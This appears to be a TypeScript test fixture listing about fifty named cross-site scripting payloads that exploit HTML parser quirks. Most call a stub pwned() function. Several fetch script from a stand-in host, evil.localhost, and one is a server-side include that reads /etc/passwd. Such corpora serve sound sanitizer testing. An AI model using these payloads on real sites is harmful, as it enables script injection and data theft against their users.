import type { Vector } from './vector.ts'

/** Markup that is no markup to one reader and is to another. */
const QUIRKS: Readonly<Record<string, string>> = {
  'two brackets': '<<script>pwned();//<</script>',
  'tag in a tag': '<b <script>pwned()</script>0</b>',
  'tag that is not ended': '<img src="x" onerror="pwned()"\n<p>x</p>',
  'half a tag at the end': '<iframe src="javascript:pwned()" <',
  'slash and no space': '<script/x>pwned()</script><script/src=//evil.localhost/x.js></script>',
  'letters in the name':
    '<script\u0000>pwned()</script><scr\u0000ipt>pwned()</script><script\u000a>pwned()</script\u0009>',
  'name that goes on':
    '<scriptx>pwned()</scriptx><script-x>pwned()</script-x><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>',
  'end with attributes': '<script>pwned()</script x="y"><style></style/onload=pwned()>',
  'end that comes first': '</script><script>pwned()</script></title><img src=x onerror=pwned()>',
  'title that ends': '</title></head><body onload=pwned()><svg/onload=pwned()>',
  'body once more':
    '</div></div></article></main></body></html><body onload=pwned() onscroll=pwned() style="display:none">',
  'form that ends the page':
    '</form></table></td></div><form action="javascript:pwned()"><input type=submit autofocus>',
  'attributes of nothing': '<img """><script>pwned()</script>"><img \'\'\'><script>pwned()</script>\'>',
  'attribute without a name': '<img src=x ="onerror=pwned()" onerror=pwned()><img = onerror=pwned()>',
  'equals signs': '<img src==x onerror==pwned()><img src="x"onerror="pwned()">',
  'comment that ends early': '<!--><img src=x onerror=pwned()>--><!---><script>pwned()</script>-->',
  'comment that ends with a sign': '<!-- --!><img src=x onerror=pwned()>--><!--a--a><img src=x onerror=pwned()>-->',
  'comment that never ends': '<!-- <img src=x onerror=pwned()>',
  'conditional comments':
    '<!--[if gte IE 4]><script>pwned()</script><![endif]--><![if true]><script>pwned()</script><![endif]>',
  instructions:
    '<?php echo "<script>pwned()</script>" ?><? foo="><script>pwned()</script>"><% foo><x y="%><script>pwned()</script>">',
  'declaration with entities': '<!DOCTYPE x [<!ENTITY e "<script>pwned()</script>">]><p>&e;</p>',
  'declaration with attributes': '<!DOCTYPE x [<!ATTLIST img onerror CDATA "pwned()" src CDATA "x">]><img>',
  'include of a server': '<!--#exec cmd="/bin/echo"--><!--#include virtual="/etc/passwd"-->',
  'data in the document':
    '<xml id=i><x><c><![CDATA[<img src="javascript:pwned()">]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>',
  'names with a space of their own': '<svg:svg onload=pwned()></svg:svg><html:img src=x onerror=pwned()></html:img>',
  'charset of the post': '<meta charset="utf-7">+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  'charset of old':
    '<meta http-equiv="content-type" content="text/html;charset=iso-2022-jp">\u001b$B\u001b(B<img alt="x" src=x onerror=pwned()>',
  'brackets of another letter':
    '\u00bcscript\u00bepwned()\u00bc/script\u00be \uff1cscript\uff1epwned()\uff1c/script\uff1e \u2039script\u203apwned()',
  'escaped twice': '&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;',
  'escaped once': '&lt;script&gt;pwned()&lt;/script&gt;&lt;img src=x onerror=pwned()&gt;',
  'references without an end': '&lt&lt/script&gt&ltscript&gtpwned()&lt/script&gt',
  'references for brackets':
    '&#60;script&#62;pwned()&#x3c;/script&#x3E; \\x3cscript\\x3e \\u003cscript\\u003e %3Cscript%3E',
  'includes of script': `<br size="&{pwned()}"><p title="$\{pwned()}">{{constructor.constructor("pwned()")()}} $\{pwned()} #{pwned()} <%= pwned() %></p>`,
  'speculation and maps':
    '<script type="speculationrules">{"prefetch":[{"urls":["http://evil.localhost/p"]}]}</script><script type="importmap">{"imports":{"x":"http://evil.localhost/x"}}</script>',
  'policy of its own':
    '<meta http-equiv="content-security-policy" content="default-src *"><meta name="referrer" content="unsafe-url"><meta http-equiv="set-cookie" content="a=b">',
  'program for an event':
    '<script for=document event=onreadystatechange>pwned()</script><event-source src="http://evil.localhost/">',
  'link to a sheet in a picture':
    '<img src="x" style="x:y" onerror="pwned()"/><image/src=x onerror=pwned()><input type=image src=x onerror=pwned()>',
  'drawing with a handler':
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">pwned()</handler><discard onbegin=pwned()></svg>',
  'drawing that animates a handler':
    '<svg><set attributeName=onload to=pwned()><animate attributeName=onclick values=pwned()></svg>',
  'drawing in a link':
    '<a href="javascript:pwned()"><svg><rect width=99 height=99></svg></a><svg><a href="javascript:pwned()"><text y=9>x</text></a></svg>',
  'list with a picture':
    '<ul style="list-style-image:url(javascript:pwned())"><li>x</ul><li style=list-style:url() onerror=pwned()>',
  'old embeddings':
    '<object classid="clsid:0" data="x"><param name=url value=javascript:pwned()></object><layer src="http://evil.localhost/"></layer><ilayer src="javascript:pwned()"></ilayer>',
  'text that looks like an end': '<p>]]>--></style></script></textarea></title><img src=x onerror=pwned()></p>',
  'ends nobody opened': '</p></br></b></table></svg></math></template></select><img src=x onerror=pwned()>',
  'letters that fold':
    '<\u017fcript>pwned()</\u017fcript><\u0131mg src=x onerror=pwned()><img \u0130d=x onerror=pwned()>',
  'pieces that vanish': '<scr<script></script>ipt>pwned()</scr<script></script>ipt><im<b>g src=x onerror=pwned()>',
  'source of a document':
    '<iframe srcdoc="&lt;script&gt;parent.pwned()&lt;/script&gt;" sandbox="allow-scripts allow-same-origin"></iframe><object data="data:text/html,x" type="text/html"></object>',
}

export function quirkVectors(): readonly Vector[] {
  return Object.entries(QUIRKS).map(([name, html]) => ({ name, html }))
}
